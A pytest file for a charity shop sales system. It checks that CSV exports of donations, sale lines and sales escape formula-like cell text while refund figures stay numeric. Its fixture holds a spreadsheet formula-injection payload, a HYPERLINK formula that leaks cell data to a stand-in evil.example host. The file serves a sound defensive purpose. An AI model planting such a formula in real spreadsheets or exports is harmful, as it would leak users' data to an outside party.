"""CSV exports neutralise formula-like text cells (issue 12 (d)), through the documented commands.

A donor or item named `=HYPERLINK(...)` must reach the manager's spreadsheet as text, not as a
live formula; numbers such as a refund's `-1` or `-25.00` must stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

from charitymart.cli import main
from charitymart.domain.basket import Basket
from charitymart.services.sales import checkout, refunds, shifts
from charitymart.services.sales.checkout import Payment
from charitymart.services.store.setup import open_store
from charitymart.services.users.session import login_at_till

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_like_names_are_exported_as_text_and_numbers_stay_numbers(cli_db, tmp_path, capsys):
    db = cli_db
    assert main(["init", "--db", db, "--store-name", "阳光", "--admin-name", "管理员", "--admin-pin", "1234"]) == 0
    catalog = write(tmp_path / "catalog.csv", "barcode,name,category,price\n"
                    f'6901234567014,"{EVIL.replace(chr(34), chr(34) * 2)}",粮油,25.00\n'
                    "6901234567021,+86 oil,粮油,30.00\n")
    donors = write(tmp_path / "donors.csv", "code,name,kind,public_name_ok,phone\n"
                   f'D00001,"{EVIL.replace(chr(34), chr(34) * 2)}",person,no,\n'
                   "D00002,@SUM(1+1),person,no,\n"
                   "D00003,-王建国,person,no,\n")
    donations = write(tmp_path / "donations.csv", "date,donor_code,barcode,quantity,unit_value\n"
                      "2026-03-02,D00001,6901234567014,10,20.00\n"
                      "2026-03-03,D00002,6901234567021,4,25.00\n"
                      "2026-03-04,D00003,6901234567021,1,25.00\n")
    for kind, path in (("catalog", catalog), ("donors", donors), ("donations", donations)):
        assert main(["import", kind, str(path), "--db", db]) == 0, capsys.readouterr().err
    sell_and_refund_one(db)

    out = tmp_path / "donations-export.csv"
    assert main(["export", "donations", "--db", db, "--from", "2026-03-01", "--to", "2026-03-31",
                 "--out", str(out)]) == 0
    exported = rows(out)
    assert [r["donor_name"] for r in exported] == ["'" + EVIL, "'@SUM(1+1)", "'-王建国"]
    assert exported[0]["name"] == "'" + EVIL and exported[1]["name"] == "'+86 oil"
    assert [(r["quantity"], r["unit_value"], r["value"]) for r in exported] == [
        ("10", "20.00", "200.00"), ("4", "25.00", "100.00"), ("1", "25.00", "25.00")]

    lines_out = tmp_path / "lines.csv"
    assert main(["export", "sale-lines", "--db", db, "--from", "2026-03-01", "--to", "2026-03-31",
                 "--out", str(lines_out)]) == 0
    refund_line = next(r for r in rows(lines_out) if r["quantity"].startswith("-"))
    assert (refund_line["quantity"], refund_line["line_total"]) == ("-1", "-25.00")  # numbers stay numbers
    assert refund_line["name"] == "'" + EVIL

    sales_out = tmp_path / "sales.csv"
    assert main(["export", "sales", "--db", db, "--from", "2026-03-01", "--to", "2026-03-31",
                 "--out", str(sales_out)]) == 0
    assert [r["total"] for r in rows(sales_out)] == ["25.00", "-25.00"]


def sell_and_refund_one(db: str) -> None:
    handle = open_store(db)
    try:
        actor = login_at_till(handle.sessions, "T1", "1234")
        with handle.sessions.begin() as s:
            shifts.open_shift(s, actor, 10000)
            basket = Basket()
            checkout.add_item(s, actor, basket, "6901234567014", 1)
            sale = checkout.complete_sale(s, actor, basket, [Payment("cash", basket.total)])
            line_id = refunds.sale_for_refund(s, sale.receipt_number).lines[0].sale_line_id
            refunds.refund(s, actor, sale.receipt_number, [(line_id, 1, True)])
    finally:
        handle.close()
